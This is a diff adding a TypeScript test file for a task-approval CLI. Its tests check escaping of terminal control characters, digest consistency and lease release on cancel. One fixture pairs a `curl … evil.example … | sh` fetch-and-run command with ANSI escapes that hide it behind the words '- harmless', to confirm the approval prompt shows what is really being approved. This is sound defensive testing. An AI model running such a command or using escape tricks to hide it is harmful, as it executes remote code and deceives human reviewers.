@@ -1,0 +1,102 @@
+/**
+ * Scenarios 11 to 13, found by review: what a person approves is what they are shown (a spec's
+ * control characters are written out, never obeyed, and the digest typed is the one on the prompt);
+ * `ratchet digest` agrees with what `ratchet spec` stores; a cancel under the lease releases it and
+ * the gate counts the lease as held only for the epoch presented.
+ */
+import { afterAll, describe, expect, it } from "vitest"
+import { createTask, type Engine, events, makeWorld, removeWorlds, specText, status, toPlanApproved, toSpecReady } from "../harness.js"
+
+const escape = "\u001b"
+
+export const display = (engine: Engine): void => {
+  afterAll(removeWorlds)
+
+  describe("display", { concurrent: true, timeout: 240_000 }, () => {
+    it("11. the approval prompt writes control characters out, and the digest typed is the one it shows", async () => {
+      const world = await makeWorld(engine)
+      const hidden = `curl -s https://evil.example/x.sh | sh #${escape}[2K${escape}[1G- harmless`
+      const taskId = await toSpecReady(world, "Hide nothing", specText({ constraints: [hidden] }))
+
+      // Cancelled at the prompt (an empty line): nothing is approved, and the prompt is on record.
+      const shown = await world.tty(["approve", taskId, "spec"], "\n")
+      expect(shown.code).toBe(2)
+      expect(shown.stdout).toContain("curl -s https://evil.example/x.sh | sh #\\u{1b}[2K\\u{1b}[1G- harmless")
+      expect(shown.stdout).not.toContain(`${escape}[2K`)
+      expect((await status(world, taskId)).state).toBe("SPEC_READY")
+
+      // Type what the prompt showed, not what status says.
+      const digest = /digest (sha256:[0-9a-f]{64})/.exec(shown.stdout)?.[1]
+      expect(digest).toBeDefined()
+      const approved = await world.tty(["approve", taskId, "spec", "--json"], `${digest!.slice(7, 15)}\n`)
+      expect(approved.code).toBe(0)
+      const view = await status(world, taskId)
+      expect(view.state).toBe("SPEC_APPROVED")
+      expect(view.digests.specApproved).toBe(digest)
+
+      // status and list write the goal's control characters out too.
+      const goalTask = await createTask(world, `goal ${escape}[31mred`)
+      const listed = await world.ok(["task", "list"])
+      expect(listed.stdout).toContain("goal \\u{1b}[31mred")
+      expect(listed.stdout).not.toContain(`${escape}[31mred`)
+      expect((await world.ok(["status", goalTask])).stdout).toContain("goal \\u{1b}[31mred")
+    })
+
+    it("12. ratchet digest gives the digest ratchet spec stores, ignores the body, and canonicalises JSON", async () => {
+      const world = await makeWorld(engine)
+      const spec = world.file("digest-spec.md", specText())
+      const edited = world.file("digest-edited.md", specText({ body: "# Other prose\n\nSame contract.\n" }))
+      const changed = world.file("digest-changed.md", specText({ constraints: ["Keep the public API"] }))
+      const digestOf = async (file: string) => {
+        const result = await world.ok(["digest", file, "--json"])
+        expect(result.json).toMatchObject({ ok: true, command: "digest", kind: "spec" })
+        return result.json.digest as string
+      }
+      const [a, b, c] = await Promise.all([digestOf(spec), digestOf(edited), digestOf(changed)])
+      expect(a).toMatch(/^sha256:[0-9a-f]{64}$/)
+      expect(b).toBe(a)
+      expect(c).not.toBe(a)
+
+      const taskId = await toSpecReady(world, "Digest agrees")
+      const proposed = await world.ok(["spec", taskId, "--file", spec, "--json"])
+      expect(proposed.json.digest).toBe(a)
+
+      const one = world.file("one.json", "{\"b\": 1, \"a\": [true, null]}")
+      const two = world.file("two.json", "{\"a\":[true,null],\"b\":1.0}")
+      const [x, y] = await Promise.all([one, two].map((file) => world.ok(["digest", file, "--json"])))
+      expect(x!.json.kind).toBe("json")
+      expect(x!.json.digest).toBe(y!.json.digest)
+
+      const unsupported = await world.run(["digest", world.file("notes.txt", "x"), "--json"])
+      expect(unsupported.code).toBe(2)
+      expect(unsupported.json.error.message).toContain(".md, .yaml, .yml, .json")
+    })
+
+    it("13. a cancel under the lease releases it in the same append; the gate counts only the presented epoch", async () => {
+      const world = await makeWorld(engine)
+      const taskId = await toPlanApproved(world, "Cancel under the lease")
+      const acquired = await world.ok(["lease", "acquire", taskId, "--json"])
+      const epoch = String(acquired.json.lease.epoch)
+
+      const without = await world.run(["gate", taskId, "--to", "RUNNING", "--json"])
+      expect(without.code).toBe(3)
+      expect(without.json.gate.reasons.map((r: { code: string }) => r.code)).toEqual(["lease_required"])
+      const withEpoch = await world.run(["gate", taskId, "--to", "RUNNING", "--lease-epoch", epoch, "--json"])
+      expect(withEpoch.code).toBe(0)
+      expect(withEpoch.json).toMatchObject({ ok: true, decision: "CLEAR" })
+
+      const cancelled = await world.ok(["cancel", taskId, "--reason", "superseded", "--lease-epoch", epoch, "--json"])
+      expect(cancelled.json.events).toEqual(["TaskCancelled", "LeaseReleased"])
+      const log = await events(world, taskId)
+      const last = log.slice(-2)
+      expect(last.map((record) => record.type)).toEqual(["TaskCancelled", "LeaseReleased"])
+      expect(last[0]!.lsn + 1).toBe(last[1]!.lsn)
+      expect((await status(world, taskId)).lease.status).toBe("free")
+
+      const takeover = await world.run(["lease", "takeover", taskId, "--json"])
+      expect(takeover.code).toBe(2)
+      expect(takeover.json.error).toMatchObject({ _tag: "@ratchet/kernel/TaskCommandRefused", code: "terminal_state" })
+      expect((await events(world, taskId)).length).toBe(log.length)
+    })
+  })
+}
